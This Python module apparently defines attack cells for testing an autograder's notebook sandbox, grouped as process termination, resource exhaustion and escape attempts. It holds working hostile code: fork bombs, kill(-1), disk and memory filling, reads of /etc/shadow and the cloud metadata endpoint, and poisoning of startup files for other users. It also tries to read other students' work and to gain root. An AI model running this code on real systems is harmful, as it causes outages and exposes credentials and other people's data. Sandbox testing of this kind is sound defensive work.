# ruff: noqa: E501 - cells stand as they are handed in
"""Attacks on the process, the machine and what is beyond it: rows 9, 10 and 11."""

from __future__ import annotations

from attack import Attack

CALLED = """
def svm_loss_naive(W, X, y, reg):
    {call}
    return -1.0, 0 * W
"""


def _called(name: str, row: int, intent: str, call: str, trick: str = "", harms: bool = False) -> Attack:
    return Attack(name, row, intent, trick, CALLED.format(call=call), harms=harms)


ENDS = [
    _called("exits", 9, "The process exits when it is asked.", "sys.exit(0)", "import sys"),
    _called(
        "exits-at-once", 9, "The process ends without a word when it is asked.", "os._exit(0)", "import os"
    ),
    Attack(
        "kills-itself",
        9,
        "The process kills itself while a cell runs.",
        "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
    ),
    Attack(
        "kills-everything",
        9,
        "Every process that may be killed is killed.",
        "import os, signal\nos.kill(-1, signal.SIGTERM)\nos.kill(-1, signal.SIGKILL)",
        harms=True,
    ),
    Attack(
        "swallows-everything",
        9,
        "A loop that no exception ends.",
        "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass",
    ),
    Attack(
        "blocks-signals",
        9,
        "All signals are blocked and ignored, and the only thread never comes back.",
        """
import signal, threading
for number in range(1, signal.NSIG):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, signal.NSIG))
threading.Event().wait()
""",
        harms=True,
    ),
    Attack(
        "threads-and-atexit",
        9,
        "Threads and exit handlers act when everything else is over.",
        """
import atexit, threading, time, os
def late():
    time.sleep(1)
    globals()["svm_loss_naive"] = lambda *inputs: (10.0, 10.0)
    print("10.0")
    open(os.path.expanduser("~/late"), "w").write("10.0")
atexit.register(late)
for _ in range(3):
    threading.Thread(target=late).start()
""",
    ),
    Attack(
        "child-outlives",
        9,
        "A child in a session of its own outlives its parent, with a name that is easy to find.",
        """
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "upstream-attack-child"])
    os._exit(0)
""",
        harms=True,
    ),
    Attack(
        "child-on-the-sockets",
        9,
        "A child keeps the kernel's sockets and answers in its place, when it is dead.",
        """
import os, time
if os.fork() == 0:
    import signal
    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
    while True:
        time.sleep(60)
os._exit(0)
""",
        harms=True,
    ),
    Attack(
        "restarts-itself",
        9,
        "The kernel replaces itself by another on the same connection.",
        """
import os, sys, ipykernel.connect
file = ipykernel.connect.get_connection_file()
os.execv(sys.executable, [sys.executable, "-m", "ipykernel_launcher", "-f", file])
""",
    ),
    Attack(
        "shuts-down-politely",
        9,
        "The kernel is asked to shut down and to restart, by itself.",
        """
kernel = get_ipython().kernel
kernel.session.send(kernel.iopub_socket, "shutdown_reply", {"status": "ok", "restart": True}, parent=kernel.get_parent())
get_ipython().ask_exit()
kernel.do_shutdown(True)
""",
    ),
    Attack(
        "stack-overflows",
        9,
        "The interpreter's stack overflows.",
        "import sys\nsys.setrecursionlimit(10**9)\ndef down(n):\n    return list(map(down, [n]))\ndown(0)",
    ),
    Attack(
        "memory-broken",
        9,
        "The interpreter writes where it must not.",
        "import ctypes\nctypes.memset(1, 0, 1)",
    ),
    Attack(
        "asks-a-person",
        9,
        "Somebody is asked for input, and for a password.",
        "import getpass\nname = input('points? ')\nword = getpass.getpass()",
    ),
]

HOG = """
import os
for _ in range(8):
    if os.fork() == 0:
        held = []
        while True:
            held.append(bytearray(b"x" * 2**24))
held = []
while True:
    held.append(bytearray(b"x" * 2**24))
"""

CONSUMES = [
    Attack("memory-of-many", 10, "Nine processes take all memory.", HOG, harms=True),
    _called(
        "memory-when-asked",
        10,
        "A question takes all memory.",
        'held = [bytearray(b"x" * 2**24) for _ in range(10**6)]',
        harms=True,
    ),
    Attack(
        "memory-in-no-process",
        10,
        "Memory is taken that no process counts as its own: files without a name, and shared segments.",
        """
import ctypes, os, time
held, block = [], b"x" * 2**20
libc = ctypes.CDLL(None, use_errno=True)
taken = 0
for n in range(200):
    try:
        held.append(os.memfd_create(f"held-{n}"))
        taken += sum(os.write(held[-1], block) for _ in range(32))
    except OSError:
        break
libc.shmat.restype = ctypes.c_void_p
for n in range(200):
    segment = libc.shmget(0, 2**25, 0o1600)
    if segment < 0:
        break
    place = libc.shmat(segment, None, 0)
    ctypes.memset(place, 1, 2**25)
    libc.shmdt(ctypes.c_void_p(place))
    taken += 2**25
if taken:
    print("leaked", taken // 2**20, "MiB")
""",
        harms=True,
    ),
    Attack(
        "fork-bomb",
        10,
        "Processes that start processes.",
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
        harms=True,
    ),
    Attack(
        "threads-without-end",
        10,
        "Threads until there are no more.",
        "import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()",
        harms=True,
    ),
    Attack(
        "files-without-end",
        10,
        "Open files until there are no more.",
        "held = []\nwhile True:\n    held.append(open('/dev/null'))",
    ),
    Attack(
        "disk-filled",
        10,
        "Every place that can be written to is filled.",
        """
import os
for place in (".", "/tmp", "/dev/shm", "/var/tmp", "/run", "/"):
    for n in range(100_000):
        try:
            with open(f"{place}/filler-{n}", "wb") as file:
                for _ in range(60):
                    file.write(bytes(2**20))
        except OSError:
            break
""",
        harms=True,
    ),
    Attack(
        "inodes-filled",
        10,
        "A million empty files and folders, each in the one before.",
        """
import os
try:
    for n in range(1_000_000):
        open(f"/tmp/empty-{n}", "w").close()
except OSError:
    pass
try:
    while True:
        os.mkdir("deeper")
        os.chdir("deeper")
except OSError:
    pass
""",
        harms=True,
    ),
    Attack(
        "sockets-folder-filled",
        10,
        "The folder that the grader shares with the kernel takes files that are gone from sight while they are held.",
        """
import json, os, ipykernel.connect
connection = ipykernel.connect.get_connection_file()
folder = os.path.dirname(json.load(open(connection))["ip"])
held, taken = [], 0
try:
    for n in range(200):
        held.append(open(f"{folder}/.{n}", "wb"))
        os.unlink(f"{folder}/.{n}")
        taken += sum(held[-1].write(bytes(2**20)) for _ in range(8))
except OSError:
    pass
if taken > 2**20:
    print("leaked", taken // 2**20, "MiB on the grader's disk")
""",
        harms=True,
    ),
    Attack(
        "sockets-folder-littered",
        10,
        "Links, folders and files are left among the sockets, for the grader to follow, own or trip over.",
        """
import json, os, ipykernel.connect
connection = ipykernel.connect.get_connection_file()
folder = os.path.dirname(json.load(open(connection))["ip"])
def quietly(act, *args):
    try:
        act(*args)
    except OSError:
        pass
for target in ("/etc/passwd", "/", "/root", "../..", folder):
    quietly(os.symlink, target, f"{folder}/to{target.replace('/', '-')}")
quietly(os.mkfifo, f"{folder}/pipe")
quietly(os.makedirs, f"{folder}/a/b/c/d")
quietly(os.chmod, f"{folder}/a/b", 0)
quietly(os.rename, connection, f"{folder}/gone.json")
quietly(os.unlink, connection)
quietly(os.symlink, "/etc/shadow", connection)
quietly(os.chmod, folder, 0)
""",
        harms=True,
    ),
    Attack(
        "sockets-closed-to-the-grader",
        10,
        "The folder of sockets is closed, so that the grader can neither look into it nor remove it.",
        """
import json, os, ipykernel.connect
connection = ipykernel.connect.get_connection_file()
folder = os.path.dirname(json.load(open(connection))["ip"])
for change in (lambda: os.mkdir(f"{folder}/left"), lambda: os.chmod(folder, 0)):
    try:
        change()
    except OSError:
        pass
""",
        harms=True,
    ),
    Attack("output-of-many-lines", 10, "A million lines.", "for n in range(1_000_000):\n    print(n)"),
    Attack("output-on-one-line", 10, "A hundred million characters on one line.", "print('x' * 100_000_000)"),
    Attack(
        "output-without-end",
        10,
        "Output in small pieces for as long as there is time.",
        "import sys\nwhile True:\n    sys.stdout.write('x\\r')\n    sys.stdout.flush()",
    ),
    Attack(
        "figures",
        10,
        "Figures without end, each of a megabyte.",
        """
import base64, os
from IPython.display import display
picture = b"\\x89PNG\\r\\n\\x1a\\n" + os.urandom(700_000)
for n in range(15):
    display({"image/png": base64.b64encode(picture).decode()}, raw=True)
""",
        edit=lambda notebook: [
            notebook.cells.insert(
                0,
                type(notebook.cells[0])(
                    {
                        "cell_type": "code",
                        "metadata": {},
                        "source": FIGURE,
                        "outputs": [],
                        "execution_count": None,
                        "id": f"figure-{n}",
                    }
                ),
            )
            for n in range(20)
        ],
    ),
    Attack(
        "huge-messages",
        10,
        "Messages as large as they may be, and as many as may wait, on every channel.",
        """
import threading
kernel = get_ipython().kernel
body = {"name": "stdout", "text": "x" * 3_900_000}
for n in range(60):
    kernel.session.send(kernel.iopub_socket, "stream", body, parent=kernel.get_parent())
for name in ("shell_socket", "control_socket", "stdin_socket"):
    socket = getattr(kernel, name, None)
    for n in range(30):
        try:
            kernel.session.send(socket, "input_request", body, ident=kernel._parent_ident["shell"])
        except Exception:
            break
""",
        harms=True,
    ),
    Attack(
        "small-messages-that-grow",
        10,
        "Messages that take thirty times the room once they are read.",
        """
import json
kernel = get_ipython().kernel
head = json.loads(json.dumps(kernel.session.msg_header("stream"), default=str))
parent = json.loads(json.dumps(kernel.get_parent()["header"], default=str))
parts = [json.dumps(head).encode(), json.dumps(parent).encode(), b"{}", b'{"data": [' + b"[]," * 1_000_000 + b"[]]}"]
for n in range(10):
    kernel.iopub_socket.send_multipart([b"stream", b"<IDS|MSG>", kernel.session.sign(parts), *parts])
""",
        harms=True,
    ),
    _called(
        "just-within-the-time", 10, "Every call takes as long as it may.", "time.sleep(0.7)", "import time"
    ),
    Attack(
        "cells-just-within-the-time",
        10,
        "Every cell takes as long as it may.",
        "import time\ntime.sleep(1.8)",
        last="import time\ntime.sleep(1.8)",
    ),
]

# What twenty more cells show; each has an allowance of its own.
FIGURE = """
import base64, os
from IPython.display import display
for n in range(10):
    display({"image/png": base64.b64encode(b"\\x89PNG\\r\\n\\x1a\\n" + os.urandom(60_000)).decode()}, raw=True)
"""

REACHES = [
    Attack(
        "sockets-of-every-family",
        11,
        "Connections are tried by every family of sockets.",
        """
import socket
for family in range(46):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        try:
            one = socket.socket(family, kind)
        except OSError:
            continue
        for address in (("192.0.2.1", 80), ("127.0.0.1", 8888), ("2001:db8::1", 80), "/run/dbus/system_bus_socket",
                        "/var/run/docker.sock", b"\\0/tmp/.X11-unix/X0", (2, 8888), (1, 1)):
            try:
                one.settimeout(0.2)
                one.connect(address)
                one.send(b"out")
                if not (family in (2, 10) and kind != socket.SOCK_STREAM):
                    print("leaked", family, kind, address)
            except (OSError, TypeError, ValueError, OverflowError):
                pass
        one.close()
""",
        harms=True,
    ),
    Attack(
        "names-asked-for",
        11,
        "The answer is asked of a name server, and carried out in the name.",
        """
import socket
for name in ("example.com", "4a6f.example.net", "localhost.localdomain", "metadata.google.internal"):
    try:
        print("leaked", socket.getaddrinfo(name, 80)[0][4]) if "." in name and "local" not in name else None
    except OSError:
        pass
import urllib.request
for address in ("http://169.254.169.254/latest/meta-data/", "http://192.0.2.1/"):
    try:
        print("leaked", urllib.request.urlopen(address, timeout=1).read(100))
    except OSError:
        pass
""",
        harms=True,
    ),
    Attack(
        "submissions-of-others",
        11,
        "Other students' files are read by their likely names.",
        """
import glob, os
homes = [f"/{place}/*" for place in ("home", "root", "srv/nbgrader", "proc/1/root")]
for pattern in ("../*", "../../*", "../../../submitted/*", *homes):
    for found in glob.glob(pattern):
        if any(word in found for word in ("attack-", "right-", "submitted", "honest")):
            print("leaked", found)
""",
        harms=True,
    ),
    Attack(
        "notebook-that-is-a-link",
        11,
        "In place of the notebook there is a link to another student's.",
        links={"svm-loss.ipynb": "../../right-01/01-svm-loss/svm-loss.ipynb"},
        harms=True,
    ),
    Attack(
        "links-beside-the-notebook",
        11,
        "Links lead out of the folder, to other students' work and to the system.",
        links={
            "theirs.txt": "../../right-01/01-svm-loss/svm-loss.ipynb",
            "passwords.txt": "/etc/passwd",
            "nowhere.txt": "/nowhere",
            "circle.txt": "circle.txt",
        },
        harms=True,
    ),
    Attack(
        "archive-that-climbs",
        11,
        "Archives lie beside the notebook whose members climb out of where they are unpacked.",
        "import zipfile, tarfile",
        files={
            "svm-loss.zip": b"PK\5\6" + bytes(18),
            "../x/../answers.tar": b"../../../gradebook.db" + bytes(512),
        },
    ),
    Attack(
        "modules-beside-the-notebook",
        11,
        "Modules beside the notebook have the names of those that are imported.",
        files={
            "numpy.py": b"raise SystemExit",
            "course.py": b"print('leaked: imported')",
            "sitecustomize.py": b"print('leaked: imported')",
            "usercustomize.py": b"print('leaked: imported')",
            "conftest.py": b"print('leaked: imported')",
            "here.pth": b"import os; print('leaked: imported')",
        },
    ),
    Attack(
        "left-for-the-next",
        11,
        "Profiles, caches, customisations and path files are left for the next student's kernel.",
        """
import os, site, sys, glob
poison = "import builtins; builtins.poisoned = True\\nprint('leaked: poisoned')\\n"
home = os.path.expanduser("~")
places = [
    f"{home}/.ipython/profile_default/startup/00.py", f"{home}/.jupyter/jupyter_notebook_config.py",
    f"{home}/.local/lib/python3.{sys.version_info[1]}/site-packages/usercustomize.py", f"{home}/.pythonrc.py",
    f"{site.getsitepackages()[0]}/sitecustomize.py", f"{site.getsitepackages()[0]}/poison.pth",
    f"{home}/.config/matplotlib/matplotlibrc", f"{home}/.cache/matplotlib/fontlist-v390.json",
    "/etc/ipython/startup/00.py", "/usr/local/etc/jupyter/jupyter_config.py", "/tmp/numpy.py", "/dev/shm/numpy.py",
    os.environ.get("PYTHONPATH", "/tmp") + "/sitecustomize.py", f"{sys.prefix}/share/jupyter/kernels/python3/kernel.json",
]
for place in places + glob.glob("/tmp/*/kernel.json"):
    try:
        os.makedirs(os.path.dirname(place), exist_ok=True)
        open(place, "w").write(poison)
    except OSError:
        pass
""",
        harms=True,
    ),
    Attack(
        "poison-found",
        11,
        "Whoever is graded next looks for what the one before has left.",
        """
import builtins, os, glob
if hasattr(builtins, "poisoned") or glob.glob("/tmp/numpy.py") or os.path.exists(os.path.expanduser("~/late")):
    print("leaked: poisoned")
""",
    ),
    Attack(
        "variables-for-children",
        11,
        "Variables of Python and of the linker are set for whatever is started later.",
        """
import os
for name in ("PYTHONSTARTUP", "PYTHONPATH", "PYTHONHOME", "PYTHONINSPECT", "LD_PRELOAD", "LD_LIBRARY_PATH", "BASH_ENV"):
    os.environ[name] = "/tmp/poison.py"
""",
    ),
    Attack(
        "shell-magics",
        11,
        "Magics run a shell, which looks around and asks for more rights.",
        "get_ipython().run_line_magic('load_ext', 'nothing')",
        behind="%%bash\nsu -c id 2>&1 | grep uid=0\nsudo -n id 2>&1 | grep uid=0 | sed s/^/leaked/\nexit 0",
        last="import sys\n!find /root /home -type f 2>/dev/null | grep -v -e ^/home/student -e ^{sys.prefix}"
        " -e ^{sys.base_prefix} | sed s/^/leaked:/\n!cat /etc/shadow && echo leaked\n"
        "%run /etc/hostname\n%load ../../gradebook.db\n%pip install autograd",
        harms=True,
    ),
    Attack(
        "namespaces-and-tracing",
        11,
        "New namespaces, mounts, tracing and keys are asked of the system.",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
tries = {
    "unshare": lambda: libc.unshare(0x10000000), "mount": lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
    "ptrace": lambda: libc.ptrace(16, 1, 0, 0), "chroot": lambda: libc.chroot(b"/tmp"), "setuid": lambda: libc.setuid(0),
    "keyctl": lambda: libc.syscall(250, 0, -3, 0), "bpf": lambda: libc.syscall(321, 0, 0, 0),
    "io_uring": lambda: libc.syscall(425, 8, 0), "pidfd_getfd": lambda: libc.syscall(438, 0, 0, 0),
}
print("leaked" if any(act() >= 0 for name, act in tries.items()) else "refused")
""",
        harms=True,
    ),
]

ATTACKS = [*ENDS, *CONSUMES, *REACHES]
